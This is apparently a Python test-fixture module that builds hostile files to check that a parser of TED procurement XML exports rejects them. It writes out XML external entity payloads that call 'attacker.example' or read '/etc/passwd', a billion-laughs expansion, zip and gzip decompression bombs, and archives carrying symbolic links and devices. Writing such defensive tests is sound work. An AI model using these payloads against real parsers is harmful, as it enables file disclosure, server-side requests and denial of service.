"""Files made to harm: of each attack the smallest that would work, and good notices to stand beside them."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

TED = Path(__file__).parent / "fixtures" / "ted"
GOOD = (TED / "corrigendum.xml").read_bytes()
BODY = GOOD.partition(b"?>")[2].decode()
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

DOCTYPES = {
    "external": '<!DOCTYPE TED_EXPORT SYSTEM "http://attacker.example/x.dtd">',
    "public": '<!DOCTYPE TED_EXPORT PUBLIC "-//X//Y" "file:///etc/passwd">',
    "entity of a file": '<!DOCTYPE TED_EXPORT [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "parameter entity": '<!DOCTYPE TED_EXPORT [<!ENTITY % x SYSTEM "http://attacker.example/x">%x;]>',
    "billion laughs": f'<!DOCTYPE TED_EXPORT [<!ENTITY l0 "ha">{LAUGHS}]>',
    "behind a comment": "<!-- harmless --><?pi harmless?>\n<!DOCTYPE TED_EXPORT>",
    "behind a comment that looks like one": "<!-- <!DOCTYPE a> --><!DOCTYPE TED_EXPORT>",
    "empty": "<!DOCTYPE TED_EXPORT>",
}


def xml(prolog: str = "", body: str = BODY, encoding: str = "UTF-8") -> bytes:
    """A notice with something before it."""
    return f'<?xml version="1.0" encoding="{encoding}"?>{prolog}{body}'.encode(encoding)


def nested(levels: int, text: str = "Tief") -> bytes:
    """An export with a text so many elements down."""
    inside = "<X>" * levels + f"<P>{text}</P>" + "</X>" * levels
    return f'<TED_EXPORT><FORM_SECTION><F02_2014 LG="DE">{inside}</F02_2014></FORM_SECTION></TED_EXPORT>'.encode()


def zipped(members: Iterable[tuple[str | zipfile.ZipInfo, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def tarred(members: Iterable[tuple[str | tarfile.TarInfo, bytes]], mode: str = "w") -> bytes:
    """A tar of members."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members:
            entry = tarfile.TarInfo(name) if isinstance(name, str) else name
            entry.size = len(data) if entry.isreg() else 0
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def linked(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    """A link or a device of a tar."""
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    return entry


def symbolic(name: str) -> zipfile.ZipInfo:
    """A symbolic link of a zip."""
    entry = zipfile.ZipInfo(name)
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return entry


def encrypted(data: bytes = GOOD) -> bytes:
    """A zip whose only member says that it needs a password."""
    made = bytearray(zipped([("secret.xml", data)]))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        made[made.index(mark) + at] |= 1
    return bytes(made)


def overlapping(count: int, size: int) -> bytes:
    """A zip whose directory names one compressed member many times: each unpacks, and the file stays small."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"<a>" + b" " * (size - 3)
    packed = packer.compress(data) + packer.flush()
    head = (20, 0, 8, 0, 0, zlib.crc32(data), len(packed), size, 1, 0)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", *head) + b"a" + packed
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *head, 0, 0, 0, 0, 0) + b"a"
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, len(local), 0)
    return local + entry * count + end


def gzip_bomb(size: int = 64 << 20) -> bytes:
    """A gzip of an element with nothing but spaces."""
    return gzip.compress(b"<a>" + b" " * size, 9)


def workbook(rows: str, shared: str = "", target: str = "worksheets/sheet1.xml", encoding: str = "UTF-8") -> bytes:
    """An XLSX whose only sheet has these rows, as XML."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    parts = {
        "[Content_Types].xml": "<Types/>",
        "xl/workbook.xml": f'<workbook {space} xmlns:r="urn:r"><sheets><sheet name="A" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="r1" Target="{target}"/></Relationships>',
        "xl/sharedStrings.xml": f"<sst {space}>{shared}</sst>",
    }
    head, _, body = rows.rpartition("]>")
    sheet = f"{head}{_}<worksheet {space}><sheetData>{body}</sheetData></worksheet>".encode(encoding)
    return zipped([*((name, text.encode()) for name, text in parts.items()), ("xl/worksheets/sheet1.xml", sheet)])
